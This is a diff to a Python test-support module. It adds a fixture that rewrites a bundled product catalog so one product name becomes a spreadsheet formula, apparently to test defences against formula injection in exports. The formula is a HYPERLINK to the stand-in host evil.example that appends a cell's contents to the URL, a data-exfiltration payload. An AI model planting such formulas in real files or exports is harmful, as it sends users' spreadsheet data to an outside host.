@@ -9,6 +9,7 @@ from collections.abc import Iterator
 from contextlib import contextmanager
 from dataclasses import dataclass
 from decimal import Decimal
+from pathlib import Path
 from uuid import UUID
 
 from csp.aggregates.catalog import Eligibility
@@ -135,3 +136,19 @@ def postgres_schema(url: str) -> Iterator[str]:
     finally:
         with psycopg.connect(dbname=db.dbname, autocommit=True, **admin) as conn:  # type: ignore[arg-type]
             conn.execute(f'DROP SCHEMA IF EXISTS "{schema}" CASCADE')
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def catalog_with_formula_name(folder: Path) -> Path:
+    """The bundled catalog, with Business Premium renamed to a spreadsheet formula (a
+    catalog's names come from outside: the vendor's file)."""
+    from importlib import resources
+
+    text = resources.files("csp.data").joinpath("catalog.toml").read_text(encoding="utf-8")
+    poisoned = text.replace('name = "Microsoft 365 Business Premium"\n', f"name = '{FORMULA}'\n", 1)  # a literal string
+    assert poisoned != text
+    path = folder / "catalog.toml"
+    path.write_text(poisoned, encoding="utf-8")
+    return path
